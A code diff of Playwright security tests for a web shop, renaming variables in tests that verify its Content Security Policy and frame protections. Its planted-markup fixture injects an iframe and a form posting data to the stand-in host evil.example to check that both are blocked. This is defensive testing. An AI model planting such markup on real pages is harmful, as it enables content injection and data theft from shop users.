@@ -14,8 +14,8 @@ test.beforeEach(async ({ page }) => {
   await page.exposeFunction('tellRefused', (what: string) => found.push(what));
   await page.addInitScript(() => {
     document.addEventListener('securitypolicyviolation', (event) => {
-      const tell = (globalThis as unknown as { tellRefused: (what: string) => void }).tellRefused;
-      tell(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`.trim());
+      const notify = (globalThis as unknown as { tellRefused: (what: string) => void }).tellRefused;
+      notify(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`.trim());
     });
   });
 });
@@ -82,9 +82,9 @@ test('markup that got into a kept page runs nothing, loads nothing and sends not
     <iframe src="https://evil.example/"></iframe><style>body { display: none }</style>
     <form id="planted" action="https://evil.example/" method="post"><input name="code" value="1"></form>`;
   await page.route(`${shop.url}/`, async (route) => {
-    const answer = await route.fetch();
-    const body = (await answer.text()).replace('<body>', `<body>${planted}`);
-    await route.fulfill({ response: answer, body });
+    const reply = await route.fetch();
+    const body = (await reply.text()).replace('<body>', `<body>${planted}`);
+    await route.fulfill({ response: reply, body });
   });
   // React would clear away what does not belong there.
   await page.route('**/*.js', (route) => route.abort());
@@ -141,9 +141,9 @@ test('a page that an extension has changed before the shop woke up works all the
   // React tells of what it did not expect, and renders the page anew.
   problems.allow(/Minified React error #4/);
   await page.route(`${shop.url}/kategoria/ruoka`, async (route) => {
-    const answer = await route.fetch();
-    const body = (await answer.text()).replace(/<h1([^>]*)>/, '<h1$1><i>changed</i>');
-    await route.fulfill({ response: answer, body });
+    const reply = await route.fetch();
+    const body = (await reply.text()).replace(/<h1([^>]*)>/, '<h1$1><i>changed</i>');
+    await route.fulfill({ response: reply, body });
   });
   await page.goto('/kategoria/ruoka');
   await expect(page.locator('h1 i')).toHaveCount(0);
@@ -154,10 +154,10 @@ test('a page that an extension has changed before the shop woke up works all the
 
 test('no other page can put the shop in a frame', async ({ page, problems, shop }) => {
   problems.allow(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE/);
-  const other = createServer((_request, answer) => {
-    answer.setHeader('content-type', 'text/html');
+  const other = createServer((_request, reply) => {
+    reply.setHeader('content-type', 'text/html');
     const icon = '<link rel="icon" href="data:,">';
-    answer.end(`${icon}<iframe src="${shop.url}/ostoskori"></iframe>`);
+    reply.end(`${icon}<iframe src="${shop.url}/ostoskori"></iframe>`);
   });
   await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
   const { port } = other.address() as AddressInfo;
